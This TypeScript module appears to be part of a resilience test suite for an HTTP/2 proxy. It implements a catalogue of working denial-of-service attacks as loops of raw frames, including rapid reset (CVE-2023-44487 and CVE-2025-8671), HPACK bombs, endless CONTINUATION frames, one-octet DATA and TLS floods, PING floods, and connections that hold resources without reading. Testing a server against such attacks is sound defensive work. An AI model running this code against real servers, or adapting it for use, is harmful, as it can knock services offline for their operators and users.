/**
 * What strangers do to an HTTP/2 front, each a loop until it is told to stop. They run in a process
 * of their own (`Attacker` of mod.ts), so that they do not take the honest client's time.
 *
 * @module
 */
import type { TLSSocket } from "node:tls";
import { CLIENT_PREFACE, FrameFlag, FrameType, HpackEncoder } from "../../../lib/h2/mod.ts";
import { frame, setting, u32 } from "../h2_raw.ts";
import { encodeBlock } from "../hpack.ts";
import {
  type Attack,
  type AttackTarget,
  type Clock,
  dialSecure,
  hoard,
  pause,
  repeatOver,
  Wire,
} from "./attack.ts";

/** A connection of HTTP/2. */
class Attacker extends Wire {
  readonly host: string;
  readonly #encoder = new HpackEncoder();
  nextId = 1;

  private constructor(socket: TLSSocket, host: string) {
    super(socket);
    this.host = host;
  }

  /** Connects and greets, with these settings. */
  static async open(target: AttackTarget, settings: readonly number[] = []): Promise<Attacker> {
    const attacker = new Attacker(await dialSecure(target, "h2"), target.host);
    await attacker.send(CLIENT_PREFACE, frame(FrameType.settings, 0, 0, settings));
    await attacker.send(frame(FrameType.settings, FrameFlag.ack, 0));
    return attacker;
  }

  /** A request on the next stream. */
  request(path: string, endStream = true, more: readonly string[] = []): Uint8Array {
    return this.requestTo(this.host, path, endStream, more);
  }

  /** The same with another authority. */
  requestTo(
    authority: string,
    path: string,
    endStream = true,
    more: readonly string[] = [],
  ): Uint8Array {
    const id = this.nextId;
    this.nextId += 2;
    const method = endStream ? "GET" : "POST";
    const flags = FrameFlag.endHeaders | (endStream ? FrameFlag.endStream : 0);
    const pseudo = [":method", method, ":scheme", "https", ":authority", authority, ":path", path];
    return frame(FrameType.headers, flags, id, encodeBlock(this.#encoder, [...pseudo, ...more]));
  }

  /** A WebSocket on the next stream (RFC 8441). */
  tunnel(): Uint8Array {
    const id = this.nextId;
    this.nextId += 2;
    const list = [":method", "CONNECT", ":protocol", "websocket", ":scheme", "https"];
    const block = encodeBlock(this.#encoder, [...list, ":authority", this.host, ":path", "/"]);
    return frame(FrameType.headers, FrameFlag.endHeaders, id, block);
  }
}

/** Repeats `once` on one connection after the other. */
function repeat(once: (attacker: Attacker, clock: Clock) => Promise<number>): Attack {
  return repeatOver((target) => Attacker.open(target), once);
}

function resets(code: number, path: string): Attack {
  return repeat(async (attacker) => {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < 50; i++) {
      frames.push(attacker.request(path));
      frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(code)));
    }
    await attacker.send(...frames);
    return 50;
  });
}

/** Each by its name. */
export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
  "rapid reset (CVE-2023-44487)": resets(8, "/slow"),
  "rapid reset with NO_ERROR": resets(0, "/slow"),
  /** A request that is answered by the proxy itself, for each one that a backend works on. */
  "rapid reset bought with cheap answers": repeat(async (attacker) => {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < 25; i++) {
      frames.push(attacker.requestTo("other.test", "/"));
      frames.push(attacker.request("/slow"));
      frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(8)));
    }
    await attacker.send(...frames);
    return 25;
  }),
  /** An upload in frames of one octet. */
  "DATA frames of one octet": repeat(async (attacker, clock) => {
    await attacker.send(attacker.request("/", false));
    const octet = frame(FrameType.data, 0, attacker.nextId - 2, [1]);
    const many = Buffer.concat(Array.from({ length: 1000 }, () => octet));
    for (let i = 0; i < 100 && !clock.stopped && !attacker.gone; i++) {
      await attacker.send(many);
      clock.done += 1000;
    }
    return 0;
  }),
  /** Each octet of a request in a TLS record and a TCP segment of its own. */
  "TLS records of one octet": repeat(async (attacker) => {
    attacker.socket.setNoDelay(true);
    for (const octet of attacker.request("/")) await attacker.send(Uint8Array.of(octet));
    return 1;
  }),
  /** A PING for each octet of content. */
  "PINGs paid with frames of one octet": repeat(async (attacker, clock) => {
    await attacker.send(attacker.request("/", false));
    const octet = frame(FrameType.data, 0, attacker.nextId - 2, [1]);
    const ping = frame(FrameType.ping, 0, 0, new Uint8Array(8));
    const many = Buffer.concat(Array.from({ length: 500 }, () => [octet, ping]).flat());
    for (let i = 0; i < 100 && !clock.stopped && !attacker.gone; i++) {
      await attacker.send(many);
      clock.done += 500;
    }
    return 0;
  }),
  "a flood of requests that are answered at once": repeat(async (attacker) => {
    const more = ["user-agent", "x".repeat(3000)];
    const requests = Array.from(
      { length: 200 },
      () => attacker.requestTo("other.test", "/", true, more),
    );
    await attacker.send(...requests);
    return 200;
  }),
  /** Streams whose responses stay where they are, on connections that are kept. */
  "downloads that nobody reads": async (target, clock) => {
    const attackers = await Promise.all(
      Array.from({ length: 8 }, async () => {
        const attacker = await Attacker.open(target);
        const requests = Array.from({ length: 90 }, () => attacker.request("/large"));
        await attacker.send(...requests);
        return attacker;
      }),
    );
    clock.done = attackers.length;
    while (!clock.stopped) await pause(50);
    for (const attacker of attackers) await attacker[Symbol.asyncDispose]();
  },
  "window updates, settings and priorities": repeat(async (attacker) => {
    await attacker.send(attacker.request("/slow"));
    const id = attacker.nextId - 2;
    const flood = [
      frame(FrameType.windowUpdate, 0, id, u32(1)),
      frame(FrameType.priority, 0, id, [0, 0, 0, 0, 1]),
      frame(FrameType.settings, 0, 0, setting(4, 65535)),
      frame(FrameType.settings, 0, 0, setting(1, 0)),
      frame(0x42, 0, 0, [1]),
    ];
    await attacker.send(...Array.from({ length: 100 }, () => flood).flat());
    return 500;
  }),
  /** 48 MB of header list in 16 KiB, on every stream. */
  "HPACK bombs": repeat(async (attacker) => {
    const entry = attacker.request("/", true, ["x", "z".repeat(3900)]);
    await attacker.send(entry);
    const bomb = new Uint8Array(16_000).fill(0x80 | 62);
    const flags = FrameFlag.endHeaders | FrameFlag.endStream;
    await attacker.send(frame(FrameType.headers, flags, attacker.nextId, bomb));
    attacker.nextId += 2;
    return 1;
  }),
  "endless header blocks": repeat(async (attacker) => {
    await attacker.send(frame(FrameType.headers, FrameFlag.endStream, attacker.nextId, [0x82]));
    const more = frame(FrameType.continuation, 0, attacker.nextId, new Uint8Array(8000));
    for (let i = 0; i < 40; i++) await attacker.send(more);
    return 1;
  }),
  "empty CONTINUATION frames": repeat(async (attacker) => {
    await attacker.send(frame(FrameType.headers, FrameFlag.endStream, attacker.nextId, [0x82]));
    const empty = frame(FrameType.continuation, 0, attacker.nextId);
    for (let i = 0; i < 10; i++) await attacker.send(...Array.from({ length: 100 }, () => empty));
    return 1;
  }),
  "empty DATA frames": repeat(async (attacker) => {
    await attacker.send(attacker.request("/", false));
    const empty = frame(FrameType.data, 0, attacker.nextId - 2);
    await attacker.send(...Array.from({ length: 1000 }, () => empty));
    return 1000;
  }),
  /** The proxy resets, as the rules want it, what the backend works on. */
  "resets that errors provoke (CVE-2025-8671)": repeat(async (attacker) => {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < 50; i++) {
      frames.push(attacker.request("/slow"));
      frames.push(frame(FrameType.windowUpdate, 0, attacker.nextId - 2, u32(0)));
    }
    await attacker.send(...frames);
    return 50;
  }),
  "answers that nobody reads": repeat(async (attacker, clock) => {
    attacker.socket.pause();
    const ping = frame(FrameType.ping, 0, 0, new Uint8Array(8));
    clock.done++;
    const sending = (async () => {
      while (!clock.stopped && !attacker.gone) await attacker.send(attacker.request("/"), ping);
    })();
    while (!clock.stopped && !attacker.gone) await pause(20);
    attacker.socket.destroy();
    await sending;
    return 0;
  }),
  /** Windows that are opened, as drops of water. */
  "downloads taken by the octet": async (target, clock) => {
    const attackers = await Promise.all(
      Array.from({ length: 4 }, () => Attacker.open(target, [...setting(4, 0)])),
    );
    for (const attacker of attackers) {
      await attacker.send(...Array.from({ length: 90 }, () => attacker.request("/large")));
    }
    while (!clock.stopped) {
      for (const attacker of attackers) {
        const drops = Array.from(
          { length: 90 },
          (_, i) => frame(FrameType.windowUpdate, 0, 2 * i + 1, u32(1)),
        );
        await attacker.send(...drops);
        clock.done += drops.length;
      }
      await pause(100);
    }
    for (const attacker of attackers) await attacker[Symbol.asyncDispose]();
  },
  "prefaces that do not come": hoard(100, async (target, clock) => {
    if (clock.done > 100) await pause(20);
    const socket = await dialSecure(target, "h2");
    return socket.destroyed ? undefined : socket;
  }),
  "frames that break a rule": repeat(async (attacker) => {
    await attacker.send(frame(FrameType.data, 0, 0, [1, 2, 3]));
    while (!attacker.gone) await pause(1);
    return 1;
  }),
  "tunnels without end": repeat(async (attacker) => {
    const tunnels = Array.from({ length: 50 }, () => attacker.tunnel());
    await attacker.send(...tunnels);
    return 50;
  }),
  /** As many fields as there may be, each as short as can be. */
  "requests of four thousand fields": repeat(async (attacker) => {
    const id = attacker.nextId;
    attacker.nextId += 2;
    const first = attacker.request("/");
    const flags = FrameFlag.endHeaders | FrameFlag.endStream;
    const fields = new Uint8Array(16_000).fill(0x80 | 32);
    await attacker.send(first, frame(FrameType.headers, flags, id + 4, fields));
    attacker.nextId += 2;
    return 1;
  }),
};
